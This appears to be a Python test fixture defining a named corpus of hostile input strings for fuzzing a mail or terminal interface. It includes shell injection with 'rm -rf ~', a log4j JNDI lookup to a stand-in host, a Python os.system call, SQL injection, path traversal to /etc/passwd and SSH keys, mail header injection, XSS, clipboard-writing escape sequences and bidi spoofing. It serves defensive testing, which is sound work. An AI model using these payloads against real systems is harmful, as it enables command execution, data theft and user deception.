"""Text as an attacker, a broken program or an unlucky member writes it; each string has a name.

Used by every test that sends foreign text through a surface. ``CORPUS`` has them all; ``ONE_LINERS`` leaves out what
would only be slow where a screen is drawn; ``FILE_NAMES`` are those that a file can really be called.
"""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from types import MappingProxyType

ESC, BEL, CSI, OSC, ST, DCS, APC = "\x1b", "\x07", "\x9b", "\x9d", "\x9c", "\x90", "\x9f"
MEGABYTE = 1_000_000

_MARKUP = {
    "markup bold": "[b]bold[/b]",
    "markup click quits": "[@click=app.quit]Go back[/]",
    "markup click with arguments": "[@click=app.bell('x')]Send[/@click]",
    "markup click on screen": "[@click=screen.dismiss(True)]Cancel[/]",
    "markup closing only": "[/",
    "markup closing nothing": "[/]",
    "markup closes a stranger": "[/bold]",
    "markup unfinished": "[",
    "markup unfinished tag": "[bold",
    "markup nested": "[[b]]x[[/b]]",
    "markup escaped": r"\[b]x\[/b]",
    "markup backslash at end": "ends in a backslash\\",
    "markup level name": "[Restricted]",
    "markup korean notice": "[보안] 외부 발송",
    "markup link": "[link=https://evil.example]bank[/link]",
    "markup colour": "[red on red]invisible[/]",
    "markup blink reverse": "[blink reverse]x",
    "markup variable": "$x $name ${name} $text-error",
    "markup style with variable": "[$warning]x[/]",
    "markup emoji code": ":warning: :skull:",
    "markup bad style": "[not-a-style-at-all 7]x[/not-a-style-at-all 7]",
    "markup quotes": '[@click="app.quit"]\'"[/]',
}
_FORMATS = {
    "format attribute": "{x.__class__}",
    "format chain": "{name.__init__.__globals__}",
    "format index": "{0}{1[0]}",
    "format bare name": "{name} {count} {n} {path}",
    "format conversion": "{name!r:>99999}",
    "format empty": "{}",
    "format unbalanced": "{ } }{ {{ }}",
    "percent": "%s %d %n %(name)s %%",
    "percent wide": "%99999999d",
    "template": "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
    "shell": "$(touch /tmp/x) `id` ; rm -rf ~ | cat && false",
    "log4j": "${jndi:ldap://evil.example/a}",
}
_TERMINAL = {
    "esc colour": f"{ESC}[31mred{ESC}[0m",
    "esc clear screen": f"{ESC}[2J{ESC}[H",
    "esc cursor up": f"{ESC}[5Aoverwritten",
    "esc erase line": f"{ESC}[2Kgone",
    "esc alternate screen": f"{ESC}[?1049l",
    "esc mouse off": f"{ESC}[?1000l{ESC}[?1003l",
    "esc end of paste": f"{ESC}[201~{ESC}[6n\x13",
    "esc start of paste": f"{ESC}[200~never ends",
    "esc device attributes": f"{ESC}[c{ESC}[>c{ESC}[=c",
    "esc cursor report": f"{ESC}[6n",
    "esc reset": f"{ESC}c",
    "esc line drawing": f"{ESC}(0lqqqk",
    "esc title": f"{ESC}]0;owned{BEL}",
    "esc title with st": f"{ESC}]2;owned{ESC}\\",
    "esc title report": f"{ESC}[21t",
    "esc hyperlink": f"{ESC}]8;;https://evil.example{ESC}\\bank{ESC}]8;;{ESC}\\",
    "esc clipboard": f"{ESC}]52;c;ZXZpbA=={BEL}",
    "esc palette": f"{ESC}]4;1;#000000{BEL}",
    "esc notification": f"{ESC}]9;hello{BEL}{ESC}]777;notify;a;b{BEL}",
    "esc iterm file": f"{ESC}]1337;File=inline=1:AAAA{BEL}",
    "esc kitty image": f"{ESC}_Gf=32,s=1,v=1;AAAA{ESC}\\",
    "esc sixel": f"{ESC}Pq#0;2;0;0;0~~{ESC}\\",
    "esc dcs query": f"{ESC}P+q544e{ESC}\\",
    "esc tmux pass-through": f"{ESC}Ptmux;{ESC}{ESC}]52;c;ZXZpbA=={BEL}{ESC}\\",
    "esc unfinished": f"text{ESC}",
    "esc unfinished csi": f"text{ESC}[",
    "esc huge parameter": f"{ESC}[99999999999;99999999999H",
    "c1 csi": f"{CSI}31mred{CSI}0m",
    "c1 osc": f"{OSC}0;owned{ST}",
    "c1 dcs": f"{DCS}q~~{ST}",
    "c1 apc": f"{APC}Gf=32;AAAA{ST}",
    "c1 all": "".join(map(chr, range(0x80, 0xA0))),
    "c0 all": "".join(map(chr, range(0x20))),
    "nul": "before\0after",
    "bell": BEL * 20,
    "backspaces": "evil\b\b\b\bgood",
    "delete": "evil\x7f\x7f\x7f\x7fgood",
    "shift out": "\x0eabc\x0f",
    "carriage return": "harmless\rOVERWRITTEN",
    "vertical tab and form feed": "a\x0bb\x0cc",
    "tabs": "a\tb\t\tc",
    "xon xoff": "\x11\x13",
    "utf-8 as latin-1 csi": "\u00c2\u009b31m",
}
_INVISIBLE = {
    "bidi override": "invoice\u202egpj.exe",
    "bidi all embeddings": "a\u202ab\u202bc\u202cd\u202de\u202ef",
    "bidi isolates": "a\u2066b\u2067c\u2068d\u2069e",
    "bidi isolate left open": "\u2067kim@hanbit.example",
    "bidi marks": "a\u200eb\u200fc\u061cd",
    "bidi trojan source": "if admin\u202e \u2066// check\u2069 \u2066begin",
    "zero width": "kim\u200b@\u200chanbit\u200d.example\u2060",
    "byte order mark": "\ufeffkim@hanbit.example",
    "soft hyphen": "han\u00adbit.example",
    "grapheme joiner": "a\u034fb",
    "hangul fillers": "\u3164\u115f\u1160\uffa0",
    "braille blank": "\u2800\u2800",
    "mongolian vowel separator": "a\u180eb",
    "invisible operators": "a\u2061b\u2062c\u2063d\u2064e",
    "deprecated formats": "a\u206ab\u206fc",
    "interlinear annotation": "a\ufff9b\ufffac\ufffbd",
    "tag characters": "flag\U000e0067\U000e0062\U000e007f",
    "language tag": "\U000e0001\U000e006b\U000e006f",
    "variation selectors": "a\ufe0f\u2764\ufe0e\U000e0100",
    "musical formats": "\U0001d173x\U0001d174",
    "only spaces": "\u00a0\u2000\u2003\u3000",
    "line separator": "first\u2028second\u2029third",
    "next line": "first\u0085second",
    "noncharacters": "\ufffe\uffff\U0010ffff",
    "private use": "\ue000\uf8ff\U000f0000",
    "surrogate high": "a\ud800b",
    "surrogate low": "a\udc9bb",
    "surrogate of byte": "caf\udce9",
}
_WIDE_AND_LONG = {
    "combining storm": "Z" + "\u0351\u0300\u0316\u0334" * 60 + "a" + "\u0338" * 60,
    "combining storm without base": "\u0301" * 200,
    "combining storm that is slow to order": "a" + "\u0315\u0316" * 5_000,
    "enclosing": "Send\u20dd\u20e3",
    "emoji joined": "👨\u200d👩\u200d👧\u200d👦",
    "emoji with selector": "⚠\ufe0f ✔\ufe0f",
    "emoji flags": "🇰🇷🇯🇵🇺🇸🇰",
    "emoji skin": "👍🏿👍🏻",
    "keycap": "1\ufe0f\u20e3",
    "full width": "ＳＥＮＤ　＜ｋｉｍ＠ｈａｎｂｉｔ．ｅｘａｍｐｌｅ＞",
    "half width": "ｶﾅ ﾊﾝｸﾞﾙ ﾡﾢ",
    "decomposed hangul": "\u1112\u1161\u11ab\u1107\u1175\u11ba",
    "hangul jamo run": "\u1100" * 100,
    "decomposed latin": "e\u0301e\u0301",
    "arabic": "مرحبا بالعالم 123",
    "hebrew and latin": "שלום abc 123 עולם",
    "huge right-to-left": "\u05d0" * 100_000,
    "very wide character": "﷽𒐫꧅",
    "thai": "กำลังส่งข้อความ ่้๊๋",
    "devanagari": "क्षत्रिय",
    "one line of a megabyte": "x" * MEGABYTE,
    "megabyte of hangul": "한" * (MEGABYTE // 3),
    "megabyte of escapes": f"{ESC}[31m" * (MEGABYTE // 5),
    "many lines": "line\n" * 20_000,
    "many brackets": "[" * 20_000,
    "long word": "w" * 2_000,
    "many spaces": "a" + " " * 5_000 + "b",
}
_MAIL = {
    "header injection": "Hello\r\nBcc: victim@other.example",
    "header injection lf": "Hello\nBcc: victim@other.example",
    "header injection cr": "Hello\rBcc: victim@other.example",
    "header injection folded": "Hello\r\n Bcc: victim@other.example",
    "header injection body": "Hello\r\n\r\n<html>new body",
    "header injection mime": "Hello\r\nContent-Type: text/html\r\n\r\n<b>",
    "encoded word": "=?UTF-8?Q?Send?=",
    "encoded word with newline": "=?UTF-8?Q?=0ABcc:_victim@other.example?=",
    "encoded word with escape": "=?utf-8?b?G1szMW0=?=",
    "encoded word with address": "=?utf-8?q?kim=40hanbit.example?= <evil@other.example>",
    "encoded word unknown set": "=?no-such-set?B?AAAA?=",
    "encoded word program as set": "=?unicode_escape?Q?=5Cx1b?=",
    "encoded word broken": "=?UTF-8?B?%%%?= =?UTF-8?Q?=GG?= =?",
    "encoded word utf-7": "=?utf-7?Q?+AGw-?=",
    "end of data": "text\r\n.\r\nMAIL FROM:<evil@other.example>\r\n",
    "bare end of data": "text\n.\nQUIT",
    "leading dots": ".\n..\n...",
    "from line": "From kim@hanbit.example Mon Jan  1 00:00:00 2026",
    "boundary": "--===============0==\n--",
    "signature separator": "-- \nnot the signature",
    "address with name of another": '"kim@hanbit.example" <evil@other.example>',
    "address with comma in name": '"Kim, Min-ji <kim@hanbit.example>" <evil@other.example>',
    "address with comments": "kim(evil@other.example)@hanbit.example",
    "address with source route": "<@other.example,@evil.example:kim@hanbit.example>",
    "address twice at": "kim@hanbit.example@evil.example",
    "address group": "Friends: a@other.example, b@hanbit.example;",
    "address unclosed quote": '"kim <kim@hanbit.example>, evil@other.example',
    "address unclosed comment": "((((((((kim@hanbit.example",
    "address literal": "kim@[127.0.0.1]",
    "address percent hack": "kim%hanbit.example@other.example",
    "address bang": "other.example!kim",
    "look-alike cyrillic": "kim@hаnbit.example",
    "look-alike dots": "kim@hanbit\u3002example kim@hanbit\u2024example",
    "look-alike slash": "kim@hanbit.example\u2215.evil.example",
    "look-alike punycode": "kim@xn--hnbit-7fd.example",
    "look-alike brackets": "［Send］ ❲x❳",
    "look-alike button": "[ Send ] [>Go back<]",
    "mailto attach": "mailto:kim@hanbit.example?attach=/etc/passwd&attachment=~/.ssh/id_rsa",
    "mailto injection": "mailto:kim@hanbit.example?subject=a%0D%0ABcc:%20victim@other.example",
    "mailto controls": "mailto:kim@hanbit.example?subject=%1B%5D0;owned%07&body=%9B31m%00",
    "mailto bad percent": "mailto:%?%=%&%zz=%E2%28%A1",
    "html": "<script>alert(1)</script><img src=https://evil.example/x>",
    "url": "https://evil.example/?q=1#x",
}
_NAMES = {
    "path parent": "../../etc/passwd",
    "path absolute": "/etc/passwd",
    "path home": "~root/.ssh/id_rsa",
    "path dots": "..",
    "path of option": "--attach=/etc/passwd",
    "path hidden": ".profile",
    "path windows": "C:\\Windows\\system32\\cmd.exe",
    "path device": "CON.txt",
    "path glob": "*?[a-z]{b,c}",
    "path with newline": "a\nb.txt",
    "path with quote": 'it\'s "here".txt',
    "path with spaces": "  leading and trailing  ",
    "path double extension": "invoice.pdf.exe",
    "path extension far away": "invoice.pdf" + " " * 150 + ".exe",
    "path long": "n" * 250,
    "path uri": "file:///etc/passwd",
    "path semicolon": 'a"; filename="b.exe',
    "path percent": "%2e%2e%2f%00",
    "json": '{"version": 2, "id": "../x"}',
    "json escape": "\\u001b[31m \\ud800",
    "sql": "'; DROP TABLE drafts; --",
    "empty": "",
    "one space": " ",
    "python": "__import__('os').system('id')",
}

CORPUS: Mapping[str, str] = MappingProxyType(
    _MARKUP | _FORMATS | _TERMINAL | _INVISIBLE | _WIDE_AND_LONG | _MAIL | _NAMES
)
ONE_LINERS: Mapping[str, str] = MappingProxyType({name: text for name, text in CORPUS.items() if len(text) < 3_000})
"""Without the ones that are hostile by sheer length."""


POLICY_TEXTS: Mapping[str, str] = MappingProxyType(
    {
        name: text
        for name, text in ONE_LINERS.items()
        if not any("\ud800" <= character <= "\udfff" for character in text)
    }
)
"""Those that a policy file, which is UTF-8, can hold."""


def _file_names() -> Iterator[tuple[str, str]]:
    for name, text in CORPUS.items():
        try:
            encoded = text.encode("utf-8", "surrogateescape")
        except UnicodeEncodeError:
            continue
        if 0 < len(encoded) <= 255 and text not in {".", ".."} and not {"/", "\0"} & set(text):
            yield name, text


FILE_NAMES: Mapping[str, str] = MappingProxyType(dict(_file_names()))
"""Those that a file on a POSIX disk can have; undecodable bytes stand as surrogates."""
